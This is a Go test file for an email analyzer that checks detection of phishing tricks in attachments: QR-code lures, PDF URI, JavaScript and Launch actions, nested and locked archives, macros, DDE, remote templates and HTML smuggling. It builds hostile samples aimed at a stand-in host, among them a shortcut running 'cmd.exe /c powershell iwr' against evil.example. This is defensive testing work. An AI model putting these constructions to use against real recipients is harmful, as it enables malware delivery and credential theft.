package mail

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"slices"
	"strings"
	"testing"

	"github.com/makiuchi-d/gozxing"
	"github.com/makiuchi-d/gozxing/qrcode"
	"github.com/ulikunitz/xz/lzma"

	"github.com/breakwater-project/breakwater/internal/record/ocsf"
)

// qrOf draws a code with modules of four pixels.
func qrOf(t testing.TB, text string) *image.Gray {
	t.Helper()
	m, err := qrcode.NewQRCodeWriter().Encode(text, gozxing.BarcodeFormat_QR_CODE, 0, 0, nil)
	if err != nil {
		t.Fatal(err)
	}
	img := image.NewGray(image.Rect(0, 0, m.GetWidth()*4, m.GetHeight()*4))
	for y := range img.Rect.Dy() {
		for x := range img.Rect.Dx() {
			if !m.Get(x/4, y/4) {
				img.SetGray(x, y, color.Gray{Y: 255})
			}
		}
	}
	return img
}

func pngOf(t testing.TB, img image.Image) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// links returns where a message leads, with where each link stands.
func links(e *ocsf.Event) string {
	var out []string
	for _, l := range e.Mail.Links {
		out = append(out, l.From+" "+l.URL)
	}
	return strings.Join(out, "\n")
}

const lure = "https://evil.example/login?u=1"

func TestQRCodes(t *testing.T) {
	code := qrOf(t, lure)
	inverted := image.NewGray(code.Rect)
	clear := image.NewNRGBA(code.Rect)
	halfDark := image.NewGray(code.Rect)
	for i, v := range code.Pix {
		inverted.Pix[i] = 255 - v
		clear.Pix[4*i+3] = 255 - v
		x := i % code.Rect.Dx()
		halfDark.Pix[i] = byte(int(v)*2/5) + byte(x*140/code.Rect.Dx())
	}
	var jpg bytes.Buffer
	if err := jpeg.Encode(&jpg, code, &jpeg.Options{Quality: 60}); err != nil {
		t.Fatal(err)
	}
	mid := code.Rect.Dx() / 2
	left, right := code.SubImage(image.Rect(0, 0, mid, code.Rect.Dy())), code.SubImage(image.Rect(mid, 0, code.Rect.Dx(), code.Rect.Dy()))
	two := head + "Content-Type: multipart/mixed; boundary=b\n\n"
	for _, p := range []image.Image{left, right} {
		two += "--b\nContent-Type: image/png\nContent-Transfer-Encoding: base64\n\n" + base64.StdEncoding.EncodeToString(pngOf(t, p)) + "\n"
	}
	var blocks, halves, cells strings.Builder
	dark := func(x, y int) bool { return y*4 < code.Rect.Dy() && code.GrayAt(x*4, y*4).Y == 0 }
	n := code.Rect.Dx() / 4
	for y := range n {
		cells.WriteString("<tr>")
		for x := range n {
			switch {
			case dark(x, y):
				blocks.WriteString("██")
				cells.WriteString(`<td bgcolor="#000000"></td>`)
			default:
				blocks.WriteString("  ")
				cells.WriteString(`<td style="background-color:#ffffff"></td>`)
			}
			if y%2 == 0 {
				halves.WriteString([]string{" ", "▀", "▄", "█"}[b2i(dark(x, y))+2*b2i(dark(x, y+1))])
			}
		}
		blocks.WriteString("\n")
		if y%2 == 0 {
			halves.WriteString("\n")
		}
		cells.WriteString("</tr>")
	}
	raster := pngRaw(code)
	pdf := fmt.Sprintf("%%PDF-1.7\n4 0 obj<</Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent 8/ColorSpace/DeviceGray/Filter/FlateDecode>>stream\n%s\nendstream endobj\n",
		code.Rect.Dx(), code.Rect.Dy(), deflated(t, raster))
	tests := map[string]string{
		"png":              attached("a.png", "image/png", pngOf(t, code)),
		"jpeg":             attached("a.jpg", "image/jpeg", jpg.Bytes()),
		"inverted":         attached("a.png", "image/png", pngOf(t, inverted)),
		"transparent":      attached("a.png", "image/png", pngOf(t, clear)),
		"light and dark":   attached("a.png", "image/png", pngOf(t, halfDark)),
		"two halves":       two + "--b--\n",
		"in HTML":          head + "Content-Type: text/html\n\n<p>Scan</p><img src=\"data:image/png;base64," + base64.StdEncoding.EncodeToString(pngOf(t, code)) + "\">",
		"blocks":           head + "Content-Type: text/plain; charset=utf-8\n\nScan this:\n\n" + blocks.String(),
		"half blocks":      head + "Content-Type: text/plain; charset=utf-8\n\nScan this:\n\n" + halves.String(),
		"table":            head + "Content-Type: text/html\n\n<p>Scan</p><table>" + cells.String() + "</table>",
		"in PDF":           attached("a.pdf", "application/pdf", []byte(pdf)),
		"JPEG in PDF":      attached("a.pdf", "application/pdf", []byte(fmt.Sprintf("%%PDF-1.7\n4 0 obj<</Subtype /Image /Width %d /Height %d /BitsPerComponent 8 /Filter [/DCTDecode]>>\nstream\n%s\nendstream\n", code.Rect.Dx(), code.Rect.Dy(), jpg.Bytes()))),
		"in a document":    attached("a.docx", "application/x", zipOf(t, "[Content_Types].xml", "<x/>", "word/media/image1.png", string(pngOf(t, code)))),
		"in a zip":         attached("a.zip", "application/zip", zipOf(t, "code.png", string(pngOf(t, code)))),
		"under wrong type": attached("a.dat", "application/octet-stream", pngOf(t, code)),
	}
	for name, raw := range tests {
		t.Run(name, func(t *testing.T) {
			e := decodeOne(t, raw)
			if got := links(e); got != "qr "+lure {
				t.Errorf("links %q", got)
			}
			if e.Fields.Value("qr.count") == "" || e.Fields.Value("links.body") != "0" && name != "in HTML" && !strings.Contains(name, "block") && name != "table" {
				t.Errorf("qr.count %q, links.body %q", e.Fields.Value("qr.count"), e.Fields.Value("links.body"))
			}
		})
	}
	e := decodeOne(t, attached("a.png", "image/png", pngOf(t, qrOf(t, "tel:+4930123456"))))
	if e.Fields.Value("qr.text") != "tel:+4930123456" || e.Fields.Value("qr.where") != "a.png" || len(e.Mail.Links) != 0 {
		t.Errorf("a code without a link: %q in %q", e.Fields.Value("qr.text"), e.Fields.Value("qr.where"))
	}
	broken := qrOf(t, strings.Repeat(lure, 4))
	for y := 60; y < broken.Rect.Dy()-60; y++ { // the corners stay
		for x := 60; x < broken.Rect.Dx()-12; x++ {
			broken.SetGray(x, y, color.Gray{Y: byte(255 * (x / 4 % 2))})
		}
	}
	if e := decodeOne(t, attached("a.png", "image/png", pngOf(t, broken))); e.Fields.Value("qr.unread") != "a.png" {
		t.Errorf("a spoilt code is not told: %q", e.Fields.Value("qr.unread"))
	}
	if e := decodeOne(t, attached("a.png", "image/png", pngOf(t, image.NewGray(image.Rect(0, 0, 300, 300))))); e.Fields.Value("qr.count") != "" {
		t.Error("a code in a black square")
	}
}

func pngRaw(img *image.Gray) string { return string(img.Pix) }

func TestPDF(t *testing.T) {
	pdf := func(body string) string { return "%PDF-1.7\n" + body + "\ntrailer<</Root 1 0 R>>\n%%EOF" }
	stream := func(dict, data string) string {
		return "9 0 obj<<" + dict + "/Filter/FlateDecode>>stream\r\n" + deflated(t, data) + "\nendstream\nendobj\n"
	}
	cmap := "/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <0000> <FFFF> endcodespacerange 2 beginbfchar <0003> <0020> <0024> <0050> endbfchar 1 beginbfrange <0044> <0046> <0061> endbfrange endcmap"
	tests := []struct{ name, pdf, link, field, want string }{
		{"a link", pdf("5 0 obj<</Type/Annot/A<</S/URI/URI(https://evil.example/login?u=1)>>>>endobj"), lure, "", ""},
		{"escaped", pdf(`5 0 obj<</S/URI /URI (https://evil.example/\154ogin?u=1)>>endobj`), lure, "", ""},
		{"hexadecimal", pdf("5 0 obj<</URI <68747470733A2F2F6576696C2E6578616D706C652F6C6F67696E3F753D31>>>endobj"), lure, "", ""},
		{"name in disguise", pdf("5 0 obj<</S/#55RI/U#52I(https://evil.example/login?u=1)>>endobj"), lure, "", ""},
		{"target elsewhere", pdf("5 0 obj<</URI 6 0 R>>endobj 6 0 obj (https://evil.example/login?u=1) endobj"), lure, "", ""},
		{"in an object stream", pdf(stream("/Type/ObjStm/N 1/First 4", "5 0 <</A<</S/URI/URI(https://evil.example/login?u=1)>>>>")), lure, "", ""},
		{"in its text", pdf(stream("", "BT /F1 12 Tf (Go to https://evil.example/login?u=1) Tj ET")), lure, "attachment.text", "Go to https://evil.example/login?u=1"},
		{"text with kerning", pdf(stream("", "BT [(Pay)-20(ment)-300(due)] TJ T* (now) Tj ET")), "", "attachment.text", "Payment due\nnow"},
		{"text in codes", pdf("7 0 obj<</Font<</F1 8 0 R>>>>endobj 8 0 obj<</Type/Font/ToUnicode 9 0 R>>endobj " + stream("/CMapName/x", cmap) + "3 0 obj<<>>stream\nBT /F1 9 Tf <0024004400030045> Tj ET\nendstream"), "", "attachment.text", "Pa b"},
		{"script", pdf("5 0 obj<</S/JavaScript/JS(app.launchURL\\('https://evil.example/login?u=1'\\))>>endobj"), "", "attachment.action", "javascript"},
		{"start", pdf("5 0 obj<</S/Launch/F(cmd.exe)>>endobj"), "", "attachment.action", "launch"},
		{"locked", pdf("trailer<</Encrypt 5 0 R>>"), "", "attachment.encrypted", "a.pdf"},
		{"file inside", pdf(stream("/Type/EmbeddedFile", "MZ\x90\x00program")), "", "attachment.program", "a.pdf!file"},
		{"page inside", pdf(stream("/Type/EmbeddedFile", "<html><a href=https://evil.example/login?u=1>x</a></html>")), lure, "attachment.embedded", "pdf"},
		{"ASCII85", pdf("5 0 obj<</Filter/ASCII85Decode>>stream\n" + a85("BT (https://evil.example/login?u=1) Tj ET") + "~>\nendstream"), lure, "", ""},
		{"rubbish before it", "rubbish\n" + pdf("5 0 obj<</URI(https://evil.example/login?u=1)>>endobj"), lure, "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := decodeOne(t, attached("a.pdf", "application/pdf", []byte(tt.pdf)))
			if tt.link != "" && (!strings.Contains(links(e), tt.link) || e.Mail.Links[0].From == "") {
				t.Errorf("links %q", links(e))
			}
			if got := e.Fields.Value(tt.field); tt.field != "" && got != tt.want {
				t.Errorf("%s: %q, want %q", tt.field, got, tt.want)
			}
		})
	}
}

func a85(s string) string {
	var out []byte
	for i := 0; i < len(s); i += 4 {
		var q [4]byte
		n := copy(q[:], s[i:])
		v := binary.BigEndian.Uint32(q[:])
		var e [5]byte
		for k := 4; k >= 0; k-- {
			e[k] = byte(v%85) + '!'
			v /= 85
		}
		out = append(out, e[:n+1]...)
	}
	return string(out)
}

func vint(n int) string {
	if n < 128 {
		return string([]byte{byte(n)})
	}
	return string([]byte{byte(n&127 | 128), byte(n >> 7)})
}

func rar5Of(name, data string, encrypted bool) string {
	extra := ""
	if encrypted {
		extra = vint(2) + vint(1) + "\x00"
	}
	body := vint(2) + vint(2|b2i(encrypted))
	if encrypted {
		body += vint(len(extra))
	}
	body += vint(len(data)) + vint(0) + vint(len(data)) + vint(0x20) + vint(0) + vint(0) + vint(len(name)) + name + extra
	return "Rar!\x1a\x07\x01\x00" + "\x00\x00\x00\x00" + vint(len(body)) + body + data + "\x00\x00\x00\x00" + vint(2) + vint(5) + vint(0)
}

// sevenOf is a 7z archive with one name, its directory packed with LZMA or not, or encrypted.
func sevenOf(t testing.TB, name string, packed, encrypted bool) string {
	t.Helper()
	var names []byte
	for _, r := range name {
		names = append(names, byte(r), 0)
	}
	names = append(names, 0, 0)
	dir := "\x01\x05\x01\x11" + vint(len(names)+1) + "\x00" + string(names) + "\x00\x00"
	pack := ""
	if packed || encrypted {
		var b bytes.Buffer
		w, err := lzma.WriterConfig{DictCap: 1 << 16, SizeInHeader: true, Size: int64(len(dir))}.NewWriter(&b)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(dir)); err != nil {
			t.Fatal(err)
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		pack = string(b.Bytes()[13:])
		coder := "\x23\x03\x01\x01\x05" + string(b.Bytes()[:5])
		if encrypted {
			coder = "\x24\x06\xf1\x07\x01\x02\x00\x00"
		}
		dir2 := "\x17\x06\x00\x01\x09" + vint(len(pack)) + "\x00\x07\x0b\x01\x00\x01" + coder + "\x0c" + vint(len(dir)) + "\x00\x00"
		dir = dir2
	}
	head := make([]byte, 32)
	copy(head, "7z\xbc\xaf\x27\x1c\x00\x04")
	binary.LittleEndian.PutUint64(head[12:], uint64(len(pack)))
	binary.LittleEndian.PutUint64(head[20:], uint64(len(dir)))
	binary.LittleEndian.PutUint32(head[28:], crc32.ChecksumIEEE([]byte(dir)))
	return string(head) + pack + dir
}

func isoOf(name, data string) string {
	d := make([]byte, 20*2048)
	record := func(at int, name string, sector, size int, folder bool) int {
		n := 33 + len(name) + (len(name)+1)%2
		d[at], d[at+25], d[at+32] = byte(n), byte(2*b2i(folder)), byte(len(name))
		binary.LittleEndian.PutUint32(d[at+2:], uint32(sector))
		binary.LittleEndian.PutUint32(d[at+10:], uint32(size))
		copy(d[at+33:], name)
		return at + n
	}
	copy(d[16*2048:], "\x01CD001\x01")
	record(16*2048+156, "\x00", 18, 2048, true)
	copy(d[17*2048:], "\xffCD001\x01")
	at := record(18*2048, "\x00", 18, 2048, true)
	at = record(at, "\x01", 18, 2048, true)
	record(at, name+";1", 19, len(data), false)
	copy(d[19*2048:], data)
	return string(d)
}

func lnkOf(args string) string {
	h := make([]byte, 76)
	copy(h, "L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F")
	h[20] = 0x80 | 0x20 | 0x08
	out := string(h)
	for _, s := range []string{`..\cmd.exe`, args} {
		out += string([]byte{byte(len(s)), byte(len(s) >> 8)}) + string(utf16Bytes(s))
	}
	return out
}

func TestFilesAreOpened(t *testing.T) {
	page := "<html><body><a href=\"" + lure + "\">Sign in</a></body></html>"
	one := "\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3" + strings.Repeat("\x00", 100) + string(fileDataStore) + "\x04\x00\x00\x00\x00\x00\x00\x00" + strings.Repeat("\x00", 12) + "MZ\x90\x00"
	ooxml := func(members ...string) string {
		return string(zipOf(t, append([]string{"[Content_Types].xml", "<x/>"}, members...)...))
	}
	locked := zipOf(t, "Invoice.exe", "x")
	for i := range locked {
		if bytes.HasPrefix(locked[i:], []byte("PK\x03\x04")) {
			locked[i+6] |= 1
		}
		if bytes.HasPrefix(locked[i:], []byte("PK\x01\x02")) {
			locked[i+8] |= 1
		}
	}
	tests := []struct{ name, file, data, field, want, link string }{
		{"page in zip", "a.zip", string(zipOf(t, "doc/page.html", page)), "attachment.members", "1", lure},
		{"zip in zip", "a.zip", string(zipOf(t, "b.zip", string(zipOf(t, "setup.exe", "MZ\x90")))), "attachment.nested", "a.zip!b.zip", ""},
		{"program in zip in zip", "a.zip", string(zipOf(t, "b.zip", string(zipOf(t, "setup.exe", "MZ\x90")))), "attachment.member", "setup.exe", ""},
		{"locked zip", "a.zip", string(locked), "attachment.encrypted", "a.zip", ""},
		{"locked zip's member", "a.zip", string(locked), "attachment.member", "invoice.exe", ""},
		{"zip behind a picture", "a.zip", "GIF89a" + string(zipOf(t, "x.exe", "MZ")), "attachment.mismatch", "a.zip: picture", ""},
		{"rar", "a.rar", rar5Of("page.html", page, false), "attachment.members", "1", lure},
		{"locked rar", "a.rar", rar5Of("run.js", "x", true), "attachment.encrypted", "a.rar", ""},
		{"member of rar", "a.rar", rar5Of("run.js", "x", true), "attachment.member", "run.js", ""},
		{"7z", "a.7z", sevenOf(t, "run.vbs", false, false), "attachment.member", "run.vbs", ""},
		{"7z with packed names", "a.7z", sevenOf(t, "run.vbs", true, false), "attachment.member", "run.vbs", ""},
		{"7z with locked names", "a.7z", sevenOf(t, "run.vbs", false, true), "attachment.encrypted", "a.7z", ""},
		{"tar", "a.tar", string(tarHeader("page.html", int64(len(page)))) + page + strings.Repeat("\x00", 2048), "attachment.members", "1", lure},
		{"tar.gz", "a.tar.gz", string(gzipOf(t, append(tarHeader("page.html", int64(len(page))), page...))), "attachment.members", "1", lure},
		{"gz", "page.html.gz", string(gzipOf(t, []byte(page))), "attachment.members", "1", lure},
		{"iso", "a.iso", isoOf("SETUP.EXE", "MZ\x90"), "attachment.member", "setup.exe", ""},
		{"iso is told", "a.dat", isoOf("SETUP.EXE", "MZ\x90"), "attachment.image", "a.dat", ""},
		{"shortcut", "Invoice.pdf.lnk", lnkOf("/c powershell iwr " + lure), "attachment.command", `..\cmd.exe /c powershell iwr ` + lure, lure},
		{"shortcut by content", "a.dat", lnkOf("/c x"), "attachment.shortcut", "a.dat", ""},
		{"internet shortcut", "a.url", "[InternetShortcut]\nURL=" + lure + "\n", "attachment.shortcut", "a.url", lure},
		{"notebook", "a.one", one, "attachment.embedded", "program", ""},
		{"program in notebook", "a.one", one, "attachment.program", "a.one!file", ""},
		{"macro", "a.docm", ooxml("word/vbaProject.bin", "x"), "attachment.macro", "a.docm", ""},
		{"macro sheet", "a.xlsm", ooxml("xl/macrosheets/sheet1.xml", "x"), "attachment.macro", "a.xlsm", ""},
		{"remote template", "a.docx", ooxml("word/_rels/settings.xml.rels", `<Relationship Id="1" Type="http://x/attachedTemplate" Target="`+lure+`" TargetMode="External"/>`), "attachment.template", lure, lure},
		{"link in document", "a.docx", ooxml("word/_rels/document.xml.rels", `<Relationship Type="http://x/hyperlink" Target="`+lure+`" TargetMode="External"/>`, "word/document.xml", "<w:p><w:t>Click &amp; sign</w:t></w:p>"), "attachment.text", "Click & sign", lure},
		{"DDE", "a.docx", ooxml("word/document.xml", "<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\x cmd.exe</w:instrText>"), "attachment.dde", "a.docx", ""},
		{"RTF link", "a.rtf", `{\rtf1 {\field{\*\fldinst{HYPERLINK "` + lure + `"}}{\fldrslt Open the file}}}`, "attachment.text", "Open the file", lure},
		{"RTF template", "a.rtf", `{\rtf1{\*\template ` + lure + `}x}`, "attachment.template", lure, lure},
		{"RTF object", "a.rtf", `{\rtf1{\object\objdata 0105}}`, "attachment.embedded", "rtf object", ""},
		{"smuggling", "a.html", `<script>var d=atob("` + base64.StdEncoding.EncodeToString(zipOf(t, "x.js", "y")) + `");var b=new Blob([d]);a.href=URL.createObjectURL(b)</script>`, "attachment.smuggle", "a.html", ""},
		{"link in base64", "a.html", `<script>location.href=atob("` + base64.StdEncoding.EncodeToString([]byte(lure)) + `")</script>`, "attachment.script", "a.html", lure},
		{"page in escapes", "a.html", `<script>document.write(unescape("%3Ca%20href%3D%22https%3A%2F%2Fevil.example%2Flogin%3Fu%3D1%22%3Ex%3C%2Fa%3E"))</script>`, "attachment.script", "a.html", lure},
		{"link in codes", "a.svg", `<svg xmlns="x"><script>location=String.fromCharCode(` + codes(lure) + `)</script></svg>`, "attachment.script", "a.svg", lure},
		{"link in hexadecimal", "a.html", `<script>location.href="` + fmt.Sprintf("%x", lure) + `"</script>`, "attachment.script", "a.html", lure},
		{"two endings", "invoice.pdf.exe", "MZ\x90", "attachment.disguised", "invoice.pdf.exe", ""},
		{"turned ending", "invoice\u202efdp.exe", "MZ\x90", "attachment.disguised", "invoice\u202efdp.exe", ""},
		{"page called PDF", "invoice.pdf", page, "attachment.mismatch", "invoice.pdf: html", lure},
		{"program called picture", "a.jpg", "MZ\x90\x00", "attachment.mismatch", "a.jpg: program", ""},
		{"nothing wrong", "a.txt", "hello", "attachment.mismatch", "", ""},
		{"unreadable PDF", "a.pdf", "hello", "attachment.broken", "a.pdf", ""},
		{"message", "a.eml", head + "Subject: inner\n\nSign in at " + lure, "attachment.message", "a.eml", lure},
		{"invitation", "a.ics", "BEGIN:VCALENDAR\nMETHOD:REQUEST\nORGANIZER:mailto:x@evil.example\nDESCRIPTION:Join at https://evil\n .example/login?u=1\\nnow\n", "calendar.foreign", "yes", lure},
		{"visiting card", "a.vcf", "BEGIN:VCARD\nURL:" + lure + "\nEND:VCARD\n", "attachment.contact", "a.vcf", lure},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := decodeOne(t, attached(tt.file, "application/octet-stream", []byte(tt.data)))
			if got := e.Fields.Value(tt.field); got != tt.want {
				t.Errorf("%s: %q, want %q (%v)", tt.field, got, tt.want, traitsOf(e))
			}
			if tt.link != "" && (!strings.Contains(links(e), tt.link) || e.Mail.Links[0].From == "") {
				t.Errorf("links %q (%v)", links(e), traitsOf(e))
			}
		})
	}
}

func codes(s string) string {
	var out []string
	for i := range len(s) {
		out = append(out, fmt.Sprint(s[i]))
	}
	return strings.Join(out, ",")
}

func traitsOf(e *ocsf.Event) (out []string) {
	for _, f := range e.Fields {
		if strings.HasPrefix(f.Name, "attachment.") {
			out = append(out, f.Name+"="+f.Value)
		}
	}
	return out
}

// TestNestedMessage: what an attached message says and where it leads belongs to the message, after its own text.
func TestNestedMessage(t *testing.T) {
	raw := head + "Content-Type: multipart/mixed; boundary=b\n\n--b\n\nSee https://own.example/ and the message.\n--b\nContent-Type: message/rfc822\n\nSubject: inner\nContent-Type: text/html\n\n<a href=" + lure + ">Sign in</a>\n--b--\n"
	e := decodeOne(t, raw)
	if got := links(e); got != " https://own.example/\nfile "+lure {
		t.Errorf("links %q", got)
	}
	if e.Fields.Value("links.body") != "1" || !strings.Contains(e.Mail.Text, "See https") || !strings.Contains(e.Mail.Text, "Sign in") {
		t.Errorf("links.body %q, text %q", e.Fields.Value("links.body"), e.Mail.Text)
	}
	if !slices.ContainsFunc(e.Mail.Attachments, func(a ocsf.Attachment) bool { return a.Type == "message/rfc822" && a.SHA256 != "" }) {
		t.Error("the attached message is not among the attachments")
	}
}
